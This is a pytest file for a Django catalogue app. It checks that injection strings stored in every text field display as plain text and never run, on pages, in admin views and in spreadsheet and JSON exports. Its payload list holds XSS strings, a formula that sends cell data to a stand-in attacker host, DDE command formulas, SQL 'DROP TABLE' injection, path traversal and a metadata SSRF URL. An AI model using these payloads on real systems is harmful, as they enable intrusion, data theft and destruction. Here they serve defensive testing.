"""Hostile words go into every field of text, come out as they are, and nothing acts on them.

They are brought in by a list, looked at on every page that shows them to a visitor or a researcher,
and taken out in every format; then out, wiped, in and out again they are the same bytes.
"""

import csv
import io
import json
from collections.abc import Iterator
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from lxml import html
from openpyxl import load_workbook

from catalog.lib import sheets
from catalog.models import Find, Institution, Person, Photo, Place, Source, Term
from catalog.vocab import PublicationStatus
from tests.factories import make_photo, make_place_name
from tests.transfer.lists_in import TOLD, counts, exported, furnish, row, sentences, take
from tests.transfer.test_torture import TEXTS

pytestmark = [pytest.mark.django_db, pytest.mark.slow]
# Those that would act in a page stand first.
PAGES = 8
PAYLOADS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "</textarea></script></title><script src=//evil.example>",
    "<iframe src=javascript:alert(1)></iframe>",
    "javascript:alert(1)",
    "' onmouseover='alert(1)",
    "{{ 7|add:7 }}{% debug %}${7*7}",
    "%s %(n)s {n} {0.__class__}",
    "'; DROP TABLE catalog_find; --",
    "\\'; SELECT 1; \\x00",
    "=1+1",
    '=HYPERLINK("https://evil.example?"&A1,"look")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "＝1+1",
    "'=1+1",
    "''",
    "<!-- x --> ]]> &lt;b&gt; &amp;",
    "../../../../etc/passwd",
    "http://127.0.0.1/latest/meta-data",
    "\u202eevil\u202c \u200b\ufeff\u00ad",
    "Ẓ̌a̐l̈g͞o͝ 戦車 Шлем 😀 ﷽",
    "NULL",
    'a\nb,"c";d|e\\',
)
_ADDRESSES = ("href", "src", "action", "formaction", "data", "poster", "srcset", "xlink:href")
_STRANGE = {"iframe", "object", "embed", "base", "meta-refresh"}


@pytest.fixture
def finds() -> list[Find]:
    """A published find for each payload, with it in every field of text and every name."""
    furnish()
    rows = [_row(number, payload) for number, payload in enumerate(PAYLOADS)]
    names = '"object_type", "materials", "place", "holder", "found_by", "sources"'
    report = take(*rows, toml=f"[options]\ncreate_missing = [{names}]\n")
    assert counts(report) == {"new": len(PAYLOADS)}, sentences(report)
    for place in Place.objects.order_by("path"):
        place.is_public = True
        place.save()
        make_place_name(place, place.name)
    published = list(Find.objects.order_by("pk"))
    for find, payload in zip(published, PAYLOADS, strict=True):
        words = {f"caption_{code}": payload for code in ("en", "ru", "ja")}
        make_photo(find, published=True, alt_en=payload, link={"is_primary": False}, **words)
        find.publication_status = PublicationStatus.PUBLISHED
        find.save()
    return published


def _row(number: int, payload: str) -> dict[str, str]:
    part = payload.replace("|", r"\|")
    cells = {
        **TOLD,
        **dict.fromkeys((*TEXTS, "photo_credit", "photo_via", "object_type", "holder"), payload),
        **dict.fromkeys(("materials", "found_by", "sources"), part),
        "place": f"Kuril Islands > {payload.replace('>', '›')}",
    }
    return row(f"X-{number:02}", **cells)


def acting(content: str) -> list[str]:
    """What in a page would run, or lead elsewhere than where we lead."""
    document = html.fromstring(content)
    found = [html.tostring(one, encoding="unicode")[:200] for one in _scripts(document)]
    for node in document.iter():
        if not isinstance(node.tag, str):
            continue
        if node.tag in _STRANGE:
            found.append(node.tag)
        found += [f"{node.tag} {name}" for name in node.attrib if name.startswith("on")]
        found += [f"{node.tag} {name}" for name in _ADDRESSES if _acts(node.get(name))]
    return found


def _scripts(document: Any) -> Iterator[Any]:
    for one in document.iter("script"):
        is_data = one.get("type") in ("application/json", "application/ld+json")
        if not is_data and not _is_ours(one.get("src") or ""):
            yield one


def _is_ours(script: str) -> bool:
    return script.startswith(("/static/", "/admin/jsi18n/"))


def _acts(address: str | None) -> bool:
    folded = "".join((address or "").split()).casefold()
    return folded == "x" or folded.startswith(("javascript:", "vbscript:", "data:", "//evil"))


def shown(content: str) -> str:
    """What a reader sees of a page, blanks made one."""
    return " ".join(html.fromstring(content).text_content().split())


def get(client: Client, address: str) -> str:
    answer = client.get(address)
    assert answer.status_code == 200, address
    return answer.content.decode()


@pytest.mark.parametrize("prefix", ["", "/ru", "/ja"])
def test_pages_show_them_and_nothing_acts(client: Client, finds: list[Find], prefix: str) -> None:
    for find, payload in zip(finds, PAYLOADS, strict=True):
        page = get(client, f"{prefix}/finds/{find.catalogue_number}/")
        assert acting(page) == [], payload
        assert " ".join(payload.split()) in shown(page), payload
    for address in ("/finds/", "/finds/?view=table", "/places/", "/statistics/", "/"):
        assert acting(get(client, f"{prefix}{address}")) == [], address
    for place in Place.objects.order_by("pk")[: PAGES + 2]:
        assert acting(get(client, f"{prefix}/places/{place.slug}/")) == [], place


def test_questions_are_words(client: Client, finds: list[Find]) -> None:
    for payload in PAYLOADS:
        for name in ("q", "place", "type", "from", "bbox", "sort", "page"):
            answer = client.get("/finds/", {name: payload})
            assert answer.status_code in (200, 400, 404), (name, payload)
            assert acting(answer.content.decode()) == [], (name, payload)


def test_nothing_acts_in_the_admin(administrator_client: Client, finds: list[Find]) -> None:
    for find, payload in zip(finds[:PAGES], PAYLOADS, strict=False):
        for view in ("change", "history"):
            address = reverse(f"admin:catalog_find_{view}", args=[find.pk])
            assert acting(get(administrator_client, address)) == [], payload
    for model in (Find, Photo, Place, Term, Institution, Person, Source):
        name = f"admin:catalog_{model._meta.model_name}"
        page = get(administrator_client, f"{reverse(f'{name}_changelist')}?all=")
        assert acting(page) == [], name
        newest = model.objects.filter(**_made_by_us(model)).order_by("pk")
        for pk in newest.values_list("pk", flat=True)[:PAGES]:
            address = reverse(f"{name}_change", args=[pk])
            assert acting(get(administrator_client, address)) == [], (name, pk)


def _made_by_us(model: Any) -> dict[str, Any]:
    """Terms of the house hold no payload."""
    return {"label_en__in": PAYLOADS} if model is Term else {}


def sent(client: Client, kind: str) -> bytes:
    answer = client.get(f"/finds.{kind}")
    assert answer.status_code == 200
    return b"".join(answer.streaming_content)


def test_no_cell_of_a_table_is_a_formula(client: Client, finds: list[Find]) -> None:
    for table in (sent(client, "csv").decode("utf-8-sig"), exported()):
        reader = csv.DictReader(io.StringIO(table, newline=""))
        read = list(reader)
        assert [sheets.unguard(one["title_en"]) for one in read] == list(map(_stored, PAYLOADS))
        for one in read:
            for name, cell in one.items():
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝")), (name, cell)


def test_no_cell_of_a_workbook_is_a_formula(client: Client, finds: list[Find]) -> None:
    sheet = load_workbook(io.BytesIO(sent(client, "xlsx"))).worksheets[0]
    header, *read = sheet.iter_rows()
    column = [cell.value for cell in header].index("title_en")

    assert {cell.data_type for line in read for cell in line} <= {"s", "n", "inlineStr"}
    assert [sheets.unguard(line[column].value) for line in read] == list(map(_stored, PAYLOADS))


def test_programs_read_them_as_they_are(client: Client, finds: list[Find]) -> None:
    lines = [json.loads(line) for line in sent(client, "jsonl").decode().splitlines()]
    features = json.loads(sent(client, "geojson"))["features"]

    assert [line["titles"]["en"] for line in lines] == list(map(_stored, PAYLOADS))
    assert len(features) == len(PAYLOADS)
    for find in finds:
        assert json.loads(get(client, f"/api/v1/finds/{find.catalogue_number}/"))


def test_out_wiped_and_in_again_they_are_the_same_bytes(finds: list[Find]) -> None:
    Photo.objects.exclude(file="").delete()
    before = exported()
    Photo.objects.all().delete()
    Find.objects.all().delete()

    report = take(file=before)

    assert counts(report) == {"new": len(PAYLOADS)}, sentences(report)
    assert exported() == before


def _stored(payload: str) -> str:
    """A list takes one guard off a formula: it had put it there."""
    return sheets.unguard(payload)
